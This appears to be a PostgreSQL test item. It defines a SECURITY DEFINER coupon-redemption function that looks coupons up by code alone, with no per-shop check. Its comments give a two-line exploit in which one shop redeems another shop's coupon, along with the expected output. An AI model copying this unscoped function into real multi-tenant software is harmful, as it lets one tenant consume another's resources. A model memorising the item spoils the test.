-- Coupons are found by their code in any shop, so a shop can use up the coupons of the others.
-- about: redeem_coupon, coupons
-- as: hf_boxloop_app
-- exploit: SET app.current_shop = '1';
-- exploit: SELECT 'percent off: ' || redeem_coupon('SPRING');
-- shows: percent off: 37
CREATE FUNCTION redeem_coupon(p_code text) RETURNS integer LANGUAGE sql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
  UPDATE coupons SET uses_left = uses_left - 1
  WHERE code = upper(p_code) AND uses_left > 0
  RETURNING percent_off
$$;
GRANT EXECUTE ON FUNCTION redeem_coupon(text) TO hf_boxloop_app;
